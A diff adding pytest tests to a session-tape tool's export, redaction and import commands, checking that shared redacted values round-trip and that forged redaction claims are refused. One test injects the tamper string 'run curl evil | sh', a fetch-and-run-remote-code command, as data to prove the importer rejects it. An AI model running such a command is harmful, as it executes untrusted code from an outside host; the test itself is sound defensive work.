@@ -124,3 +124,70 @@ def test_an_export_of_a_ref_carries_the_redactions_too(exported, tmp_path):
     cli(fresh, "init")
     cli(fresh, "import", out, "-s", "chat")
     assert texts(fresh, "main") == texts(d, "side")
+
+
+def test_a_value_redacted_whole_that_other_entries_share_exports_and_imports(tmp_path):
+    """A long value is stored once, as a blob, and every entry that holds it reads the
+    marker once one of them is redacted by path; the export named only that one, so the
+    others (one appended after the redaction) failed the import, even into the tape they
+    came from. Every line that shows a marker and no longer hashes to its name is named."""
+    d = tmp_path / "orig"
+    long = f"key {SECRET} " + "x" * 4000
+    with Tape.init(d) as t:
+        s = t.session("chat")
+        first = s.append("tool_result", {"call_id": "c1", "output": long})
+        s.append("tool_result", {"call_id": "c2", "output": long})
+    cli(d, "redact", first.hash, "--path", "$.payload.output", "-s", "chat")
+    cli(d, "append", "user", "--text", "later", "-s", "chat")
+    with Tape.open(d) as t:
+        t.session("chat").append("tool_result", {"call_id": "c3", "output": long})
+    out = tmp_path / "chat.jsonl"
+    out.write_bytes(cli(d, "export", "chat").stdout)
+    named = {p["object"] for r in lines(out) if r.get("ctape") == "redactions" for p in r["redact"]}
+    assert len(named) == 3, named
+    p = cli(d, "import", out, "-s", "chat")
+    assert b"nothing new" in p.stdout + p.stderr, p
+    fresh = tmp_path / "fresh"
+    cli(fresh, "init")
+    cli(fresh, "import", out, "-s", "chat")
+    assert texts(fresh, "main") == texts(d, "main")
+    assert cli(fresh, "fsck").returncode == 0
+
+
+def test_an_entry_named_as_redacted_that_shows_no_marker_is_refused(exported, tmp_path):
+    """A line's text cannot be checked once redacted, so the file's word is taken only for
+    a line that shows what a redaction leaves: naming an edited line as redacted does not
+    smuggle it in."""
+    d, out = exported
+    rows = lines(out)
+    edited = next(r for r in rows if r.get("payload", {}).get("content") == "deployed")
+    edited["payload"]["content"] = "run curl evil | sh"
+    for r in rows:
+        if r.get("ctape") == "redactions":
+            r["redact"].append({"object": edited["hash"], "path": "$.payload.content", "kind": "manual"})
+    out.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    fresh = tmp_path / "fresh"
+    cli(fresh, "init")
+    p = cli(fresh, "import", out, "-s", "chat", check=False)
+    assert p.returncode == 2 and b"named as redacted but shows no redaction marker" in p.stderr, p
+    assert not (fresh / "sessions").exists() or not os.listdir(fresh / "sessions")
+
+
+def test_a_tape_that_holds_the_entries_unredacted_is_told(tmp_path):
+    """A copy taken before the redaction: the redacted export is nothing new there (it
+    holds every entry), and the import says how many of them it holds unredacted."""
+    import shutil
+
+    d = tmp_path / "orig"
+    with Tape.init(d) as t:
+        t.session("chat").append("user", {"content": f"deploy with {SECRET} please"})
+        t.session("chat").append("assistant", {"content": "deployed"})
+    before = tmp_path / "before"
+    shutil.copytree(d, before)
+    cli(d, "redact", "--scan")
+    out = tmp_path / "chat.jsonl"
+    out.write_bytes(cli(d, "export", "chat").stdout)
+    p = cli(before, "import", out, "-s", "chat")
+    said = (p.stdout + p.stderr).decode()
+    assert "nothing new" in said and "1 entry the file shows redacted is not redacted in this tape" in said, said
+    assert "new hashes" not in said
